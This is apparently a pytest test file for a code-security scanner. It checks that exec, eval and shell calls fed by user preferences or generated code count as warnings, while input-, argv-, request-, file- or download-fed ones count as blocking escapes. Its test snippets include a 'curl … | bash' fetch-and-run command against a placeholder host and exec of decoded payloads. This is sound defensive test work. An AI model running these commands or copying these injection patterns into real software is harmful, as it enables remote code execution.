"""Calibration by data origin (gate.origin): a user's own preference variable, code generated from
program values and a project Python file at a literal path are warnings; every look-alike an
attacker could write (input, environment, argv, a web view's parameter, a read file, a decoded
blob, an unseen function, a path outside the project) stays an escape."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

from gate.calibration import UNKNOWN_ORIGIN, SourceCalls
from gate.findings import build_findings
from gate.model import (
    AnalyzerRun,
    ChangedFile,
    ChangeSet,
    Confidence,
    FileStatus,
    Finding,
    Location,
    RawFinding,
    RunStatus,
    ScanMode,
    Severity,
)

SETUP_PROJECT = frozenset({"setup.py", "docs/conf.py", "src/pkg/__init__.py", "src/pkg/v.py"})

WARNINGS = {
    "pager through a private helper": (
        "import os, subprocess\n"
        "def _pipe(cmd):\n"
        "    subprocess.Popen(cmd, shell=True)  # <-\n"
        "def pager():\n"
        '    cmd = (os.environ.get("PAGER", None) or "").strip()\n'
        "    if cmd:\n"
        "        return _pipe(cmd)\n"
        '    _pipe("less")\n',
        "$PAGER",
    ),
    "pager on a quoted temporary file": (
        "import os, tempfile\n"
        "def _page(cmd):\n"
        "    fd, filename = tempfile.mkstemp()\n"
        "    os.system(f'{cmd} \"{filename}\"')  # <-\n"
        "def pager():\n"
        '    _page(os.environ["PAGER"])\n'
        '    _page("more <")\n',
        "on a quoted temporary file",
    ),
    "editor with a literal fallback": (
        "import os, subprocess\n"
        'editor = os.environ.get("VISUAL") or os.environ.get("EDITOR", "vi")\n'
        "subprocess.call(editor, shell=True)  # <-\n",
        "$EDITOR, $VISUAL",
    ),
    "a literal command on a temporary file": (
        "import os, tempfile\nfd, name = tempfile.mkstemp()\nos.system(f'more \"{name}\"')  # <-\n",
        "made of literals only, on a quoted temporary file",
    ),
    "a loop over literal commands": (
        "import os\n"
        'for tool in "sensible-editor", "vim":\n'
        '    os.system(f"which {tool} >/dev/null")  # <-\n',
        "made of literals only",
    ),
    "exec of the user's login shell": (
        'import os\nos.execvp(os.environ["SHELL"], ["-sh"])  # <-\n',
        "$SHELL",
    ),
    "PYTHONSTARTUP like the REPL": (
        "import os\n"
        "def shell(ctx):\n"
        '    startup = os.environ.get("PYTHONSTARTUP")\n'
        "    if startup and os.path.isfile(startup):\n"
        "        with open(startup) as f:\n"
        '            eval(compile(f.read(), startup, "exec"), ctx)  # <-\n',
        "$PYTHONSTARTUP",
    ),
    "a class generated from names": (
        "from operator import itemgetter\n"
        "def make(cls_name, attr_names):\n"
        '    lines = [f"class {cls_name}Attributes(tuple):", "    __slots__ = ()"]\n'
        "    for i, name in enumerate(attr_names):\n"
        '        lines.append(f"    {name} = property(itemgetter({i}))")\n'
        '    globs = {"itemgetter": itemgetter}\n'
        '    exec("\\n".join(lines), globs)  # <-\n',
        "generated code",
    ),
    "a raise at a template line": (
        "def fake(exc, filename, lineno):\n"
        '    code = compile("\\n" * (lineno - 1) + "raise exc", filename, "exec")  # <-\n',
        "generated code",
    ),
    "a private helper every caller passes generated code": (
        "def _compile_and_eval(script, globs):\n"
        '    bytecode = compile(script, "<gen>", "exec")\n'
        "    eval(bytecode, globs)  # <-\n"
        "def make(name):\n"
        '    _compile_and_eval(f"def {name}(self): return self.{name}_", {})\n',
        "generated code",
    ),
    "a preference rebound to its own stripped value": (
        'import os\ncmd = os.environ.get("PAGER", "less")\ncmd = cmd.strip()\n'
        "os.system(cmd)  # <-\n",
        "$PAGER",
    ),
    "a generated code object renamed": (
        "def fake(lineno, where):\n"
        '    code = compile("\\n" * lineno + "raise exc", "<t>", "exec")\n'
        '    code = code.replace(co_name=f"block {where!r}")\n'
        "    exec(code, {})  # <-\n",
        "generated code",
    ),
    "a setup script reading its version file": (
        "import os\nabout = {}\nhere = os.path.abspath(os.path.dirname(__file__))\n"
        'with open(os.path.join(here, "src", "pkg", "v.py"), "r", "utf-8") as f:\n'
        "    exec(f.read(), about)  # <-\n",
        "runs src/pkg/v.py, a Python file of this project",
    ),
}

ESCAPES = {
    "a template with input()": 'exec(f"x = {input()}")  # <-\n',
    "a template with the environment": 'import os\nexec("x = " + os.environ["X"])  # <-\n',
    "a template with a web view's parameter": (
        "from flask import Flask\napp = Flask(__name__)\n"
        '@app.route("/r/<name>")\ndef view(name):\n    exec(f"result = {name}")  # <-\n'
    ),
    "a template with request data": (
        'from flask import request\nexec("x = " + request.args["q"])  # <-\n'
    ),
    "a template with a parameter named request": (
        'def handle(request):\n    exec(f"x = {request.body}")  # <-\n'
    ),
    "a template with a file's text": ('data = open("in.txt").read()\nexec(f"x = {data}")  # <-\n'),
    "a template with a decoded blob": 'exec("x = " + BLOB.decode())  # <-\n',
    "a template with what an unseen function returns": 'exec(f"x = {fetch()}")  # <-\n',
    "a template with a download": (
        'import requests\nexec("x = " + requests.get(URL).text)  # <-\n'
    ),
    "a template with a client attribute's get": (
        'def run(self):\n    exec(f"x = {self.client.get(URL).text}")  # <-\n'
    ),
    "lines grown with input": (
        'lines = ["a = 1"]\nlines.append(input())\nexec("\\n".join(lines))  # <-\n'
    ),
    "a command list grown with input": (
        'import os\ncmds = ["ls"]\ncmds.append(input())\nos.system(" ".join(cmds))  # <-\n'
    ),
    "lines grown through another name": (
        'lines = ["a = 1"]\nalias = lines\nalias.append(input())\nexec("\\n".join(lines))  # <-\n'
    ),
    "a template with a class-based view's request": (
        "class Report(View):\n    def get(self, *args):\n"
        '        exec(f"x = {self.request.GET}")  # <-\n'
    ),
    "a template with a Django view's URL part": (
        'def detail(request, slug):\n    exec(f"page = {slug!r}")  # <-\n'
    ),
    "a code object rebound to compiled input": (
        'code = compile("x = 1", "<t>", "exec")\ncode = compile(input(), "<t>", "exec")\n'
        "exec(code)  # <-\n"
    ),
    "a private helper one caller passes input": (
        'def _run(script):\n    exec(script)  # <-\n_run("x = 1")\n_run(input())\n'
    ),
    "a private helper passed as a callback": (
        'def _run(script):\n    exec(script)  # <-\nHANDLERS = [_run]\n_run("x = 1")\n'
    ),
    "a public function's bare parameter": "def run(script):\n    exec(script)  # <-\n",
    "a preference inside a larger command": (
        "import os, subprocess\n"
        "subprocess.run(f\"curl -sL https://x.invalid | bash -s {os.environ['PAGER']}\", "
        "shell=True)  # <-\n"
    ),
    "a preference followed by argv": (
        'import os, sys\nos.system(os.environ["EDITOR"] + " " + sys.argv[1])  # <-\n'
    ),
    "a preference with an unquoted argument": (
        "import os, sys\nos.system(f'{os.environ[\"EDITOR\"]} {sys.argv[1]}')  # <-\n"
    ),
    "a preference on a quoted file that is not temporary": (
        'import os\ndef edit(path):\n    os.system(f\'{os.environ["EDITOR"]} "{path}"\')  # <-\n'
    ),
    "a preference with an outside fallback": (
        'import os, sys\nos.system(os.environ.get("EDITOR", sys.argv[1]))  # <-\n'
    ),
    "an environment variable that is no preference": (
        'import os, subprocess\nsubprocess.run(os.environ["CMD"], shell=True)  # <-\n'
    ),
    "sh -c of argv": 'import subprocess, sys\nsubprocess.run(["sh", "-c", sys.argv[1]])  # <-\n',
    "exec of base64": "import base64\nexec(base64.b64decode(PAYLOAD))  # <-\n",
    "pickle from stdin": "import pickle, sys\npickle.load(sys.stdin.buffer)  # <-\n",
    "os.execv of a non-literal program": "import os, sys\nos.execv(sys.argv[1], [])  # <-\n",
    "exec of a text file": 'import pathlib\nexec(pathlib.Path("job.txt").read_text())  # <-\n',
    "exec of an absolute path": 'exec(open("/tmp/pkg/v.py").read())  # <-\n',
    "exec of a path outside the repo": 'exec(open("../src/pkg/v.py").read())  # <-\n',
    "exec of a python file not in the project": 'exec(open("src/pkg/new.py").read())  # <-\n',
    "exec of a file argv names": "import sys\nexec(open(sys.argv[1]).read())  # <-\n",
    "exec of a file an unlisted variable names": (
        'import os\nwith open(os.environ["STARTUP"]) as f:\n    exec(f.read())  # <-\n'
    ),
}


def _judged(code: str, path: str = "setup.py") -> tuple[bool, str] | None:
    ast.parse(code)  # the snippet itself must be valid Python
    line = next(n for n, text in enumerate(code.splitlines(), 1) if "# <-" in text)
    judged = SourceCalls(code, path, SETUP_PROJECT).judge(line)
    return None if judged is None else (judged.blocking, judged.reason)


@pytest.mark.parametrize("name", WARNINGS)
def test_a_known_safe_origin_makes_a_warning_with_its_reason(name: str) -> None:
    code, expected = WARNINGS[name]
    judged = _judged(code)
    assert judged is not None, name
    blocking, reason = judged
    assert not blocking and expected in reason, reason


@pytest.mark.parametrize("name", ESCAPES)
def test_look_alikes_of_a_safe_origin_stay_escapes(name: str) -> None:
    judged = _judged(ESCAPES[name])
    assert judged is not None and judged[0], judged


def test_the_docs_configuration_reads_the_version_from_above_its_folder() -> None:
    code = (
        "import os\nABOUT = {}\n_BASE_DIR = os.path.join(os.path.dirname(__file__), os.pardir)\n"
        'with open(os.path.join(_BASE_DIR, "src", "pkg", "__init__.py")) as f:\n'
        "    exec(f.read(), ABOUT)  # <-\n"
    )
    assert _judged(code, "docs/conf.py") == (
        False,
        "exec of non-literal code: runs src/pkg/__init__.py, a Python file of this project",
    )
    # the same code one folder up reaches out of the repository: an escape
    assert _judged(code, "conf.py") is not None and _judged(code, "conf.py")[0]  # type: ignore[index]


def test_a_file_with_a_lambda_is_judged() -> None:
    # a lambda's body is one expression, not statements: reading it as statements crashed the
    # scan (internal error) on any file with a lambda and a call-only finding
    code = "import os\nkey = lambda item: item[0]\nos.system(input())  # <-\n"
    assert _judged(code) == (True, "os.system of a non-literal command")


def _dynamic_eval(code: str) -> Finding:
    line = next(n for n, text in enumerate(code.splitlines(), 1) if "# <-" in text)
    raw = RawFinding(
        "semgrep",
        "code-injection-dynamic-eval",
        Severity.HIGH,
        Confidence.MEDIUM,
        "eval of a string built from a function argument",
        Location("gen.py", line),
        (95,),
    )
    runs = (AnalyzerRun("semgrep", RunStatus.OK, "1.185", (raw,)),)
    lines = frozenset(range(1, len(code.splitlines()) + 1))
    changed = ChangedFile("gen.py", FileStatus.ADDED, lines, content=code.encode())
    (finding,) = build_findings(runs, ChangeSet(ScanMode.RANGE, Path("/r"), (changed,)))
    return finding


def test_our_dynamic_eval_rule_warns_on_proven_generated_code_only() -> None:
    generated = _dynamic_eval(WARNINGS["a class generated from names"][0])
    assert generated.calibration is not None and not generated.calibration.blocking
    assert "generated code" in generated.calibration.reason
    # not proven generated: it stays an escape, rated by the evidence about its data
    parameter = _dynamic_eval(ESCAPES["a public function's bare parameter"])
    assert parameter.calibration is not None and parameter.calibration.blocking
    assert parameter.severity is Severity.MEDIUM  # a caller's argument: origin unknown
    assert UNKNOWN_ORIGIN in parameter.calibration.reason
    grown = _dynamic_eval(ESCAPES["lines grown with input"])
    assert grown.calibration is not None and grown.calibration.blocking
    assert grown.severity is Severity.HIGH  # input() reaches it
    assert UNKNOWN_ORIGIN not in grown.calibration.reason
